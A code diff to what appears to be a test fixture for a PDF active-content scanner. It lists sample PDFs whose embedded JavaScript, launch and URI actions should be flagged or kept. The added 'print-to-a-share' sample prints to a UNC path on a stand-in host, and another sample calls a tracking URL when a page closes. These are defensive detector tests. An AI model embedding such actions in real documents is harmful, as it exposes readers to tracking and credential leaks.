@@ -87,7 +87,8 @@ PDF_SCRIPTS = {   # E401: a script runs on the reader's machine
     "button-js-stream.pdf": _widget("/A << /S /JavaScript /JS 4 0 R >>"),
     "page-close-js.pdf": _page_actions(f"/C {LAUNCH_URL}"),
     "field-keystroke-js.pdf": _widget(f"/AA << /K {LAUNCH_URL} >>"),
-    "print-silently.pdf": _widget("/A << /S /JavaScript /JS (this.print\\({bUI: false, bSilent: true}\\)) >>"),
+    "print-to-a-share.pdf": _widget("/A << /S /JavaScript /JS (this.print\\({bUI: false, printerName: "
+                                    "'\\\\\\\\\\\\\\\\files.example.invalid\\\\\\\\p'}\\)) >>"),
 }
 PDF_FETCHES = {   # E404: asks another host with no click
     "page-close-uri.pdf": _page_actions("/C << /S /URI /URI (https://track.example.invalid/closed) >>"),
@@ -97,6 +98,7 @@ PDF_FETCHES = {   # E404: asks another host with no click
 PDF_KEPT = {   # a click on a plain link or button, Acrobat's own formatting and print/reset buttons
     "button-print.pdf": _widget("/A << /S /JavaScript /JS (this.print\\(\\);) >>"),
     "button-reset.pdf": _widget("/A << /S /JavaScript /JS (this.resetForm\\(\\);) >>"),
+    "button-print-options.pdf": _widget("/A << /S /JavaScript /JS (this.print\\({bUI: true, bSilent: false, bShrinkToFit: true}\\);) >>"),
     "button-web.pdf": _widget("/A << /S /URI /URI (https://www.gov.cn/) >>"),
     "button-up-web.pdf": _widget("/AA << /U << /S /URI /URI (https://www.gov.cn/) >> >>"),
     "field-format.pdf": _widget("/AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\\\\u20ac \", true\\);) >> "
